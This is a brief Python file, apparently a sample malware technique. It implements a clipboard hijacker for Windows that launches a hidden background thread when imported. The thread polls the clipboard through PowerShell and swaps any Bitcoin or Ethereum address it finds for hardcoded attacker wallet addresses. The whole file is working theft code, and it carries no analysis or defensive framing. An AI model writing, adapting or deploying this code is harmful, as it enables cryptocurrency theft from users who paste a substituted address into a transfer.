# technique: colourama-style clipboard hijacker — polls the clipboard and replaces crypto wallet addresses with the attacker's
import ctypes
import re
import threading
import time

_BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
_ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
_MINE = {"btc": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", "eth": "0x52908400098527886E0F7030069857D2E4169EE7"}

user32 = ctypes.windll.user32
kernel32 = ctypes.windll.kernel32


def _get():
    import subprocess

    return subprocess.run(["powershell", "-c", "Get-Clipboard"], capture_output=True, text=True).stdout.strip()


def _set(text):
    import subprocess

    subprocess.run(["clip"], input=text, text=True)


def _watch():
    while True:
        data = _get()
        if _BTC.match(data) and data != _MINE["btc"]:
            _set(_MINE["btc"])
        elif _ETH.match(data) and data != _MINE["eth"]:
            _set(_MINE["eth"])
        time.sleep(0.5)


threading.Thread(target=_watch, daemon=True).start()
